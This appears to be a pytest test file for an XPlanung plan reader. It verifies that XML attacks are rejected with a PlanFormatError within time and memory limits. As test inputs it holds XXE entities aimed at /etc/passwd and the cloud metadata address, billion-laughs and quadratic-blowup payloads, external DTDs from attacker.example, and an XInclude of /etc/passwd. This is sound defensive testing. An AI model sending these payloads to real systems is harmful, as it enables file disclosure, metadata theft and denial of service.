"""XML attacks (SECURITY.md row 9): every one is refused with a clear PlanFormatError, fast and in bounded memory."""

from __future__ import annotations

import resource
import time
import tracemalloc
from collections.abc import Callable
from types import SimpleNamespace

import pytest

from bauantrag.formats.xplan import PlanFormatError, read_plan

DOCTYPE = "DOCTYPE"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
LOL = "".join(f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 10))


def refused(data: bytes) -> PlanFormatError:
    """read_plan(data) must raise PlanFormatError in < 1 s with < 50 MB more memory (Python heap and process RSS)."""
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(PlanFormatError) as caught:
            read_plan(data)
    finally:
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    rss_growth_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before
    assert elapsed < 1.0, f"{elapsed:.2f} s"
    assert peak < 50 * 1024 * 1024, f"{peak / 1048576:.1f} MB Python heap"
    assert rss_growth_kb < 50 * 1024, f"{rss_growth_kb / 1024:.1f} MB RSS growth"
    assert caught.value.line is not None and str(caught.value).startswith(f"Zeile {caught.value.line}")
    return caught.value


def with_doctype(xp: SimpleNamespace, doctype: str, body_entity: str = "") -> bytes:
    values = f"<xplan:GRZ>0.4</xplan:GRZ><xplan:bauweiseText>{body_entity}</xplan:bauweiseText>"
    return xp.plan(values=values, prolog=HEAD + doctype + "\n")


ATTACKS: dict[str, Callable[[SimpleNamespace], bytes]] = {
    "external entity file:///etc/passwd": lambda xp: with_doctype(
        xp, '<!DOCTYPE xplan:XPlanAuszug [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"
    ),
    "external entity http (cloud metadata)": lambda xp: with_doctype(
        xp, '<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>', "&xxe;"
    ),
    "billion laughs": lambda xp: with_doctype(xp, f'<!DOCTYPE x [<!ENTITY lol0 "lol">{LOL}]>', "&lol9;"),
    "quadratic blowup": lambda xp: with_doctype(xp, f'<!DOCTYPE x [<!ENTITY a "{"A" * 100_000}">]>', "&a;" * 20_000),
    "parameter entities": lambda xp: with_doctype(
        xp, '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; %payload;]>'
    ),
    "external DTD": lambda xp: with_doctype(xp, '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'),
    "harmless-looking DOCTYPE": lambda xp: with_doctype(xp, "<!DOCTYPE XPlanAuszug>"),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_doctype_attacks_are_refused(attack: str, xp: SimpleNamespace) -> None:
    error = refused(ATTACKS[attack](xp))
    assert error.element == DOCTYPE and "DOCTYPE" in error.message and "Sicherheitsgründen" in error.message
    assert error.line == 2
    assert "root:" not in str(error)


def test_doctype_after_a_long_prolog_is_refused_by_the_tree_check(xp: SimpleNamespace) -> None:
    comment = "<!--" + "x" * 100_000 + "-->\n"  # longer than the prolog scan window
    data = with_doctype(xp, comment + '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;")
    error = refused(data)
    assert "DOCTYPE" in error.message and "root:" not in str(error)
    laughs = with_doctype(xp, comment + '<!DOCTYPE x [<!ENTITY lol0 "lol">' + LOL + "]>", "&lol9;")
    assert "Entitäten" in refused(laughs).message  # libxml2's amplification limit, before the tree check


def test_utf16_doctype_is_refused(xp: SimpleNamespace) -> None:
    text = with_doctype(xp, '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;").decode()
    data = text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert "DOCTYPE" in refused(data).message


def test_xinclude_is_refused(xp: SimpleNamespace) -> None:
    include = (
        "<gml:featureMember><xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' "
        "parse='text'/></gml:featureMember>"
    )
    error = refused(xp.plan(features=include))
    assert "XInclude" in error.message and error.element == "xi:include"


def test_deeply_nested_elements_are_refused(xp: SimpleNamespace) -> None:
    nested = "<xplan:x>" * 100_000 + "</xplan:x>" * 100_000
    error = refused(xp.plan(features=f"<gml:featureMember>{nested}</gml:featureMember>"))
    assert "verschachtelt" in error.message


def test_huge_text_node_is_refused(xp: SimpleNamespace) -> None:
    huge = "x" * (11 * 1024 * 1024)
    error = refused(xp.plan(plan_extra=f"<xplan:beschreibung>{huge}</xplan:beschreibung>"))
    assert "zu groß" in error.message


def test_oversized_file_is_refused_before_parsing(xp: SimpleNamespace) -> None:
    with pytest.raises(PlanFormatError, match="zu groß"):
        read_plan(xp.plan(), max_bytes=100)


def test_schema_location_is_ignored(xp: SimpleNamespace) -> None:
    root = (
        "xplan:XPlanAuszug xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
        "xsi:schemaLocation='http://www.xplanung.de/xplangml/6/0 http://169.254.169.254/evil.xsd'"
    )
    data = xp.plan().replace(b"<xplan:XPlanAuszug", b"<" + root.encode(), 1)
    started = time.perf_counter()
    assert read_plan(data).name == "Testplan"
    assert time.perf_counter() - started < 1.0
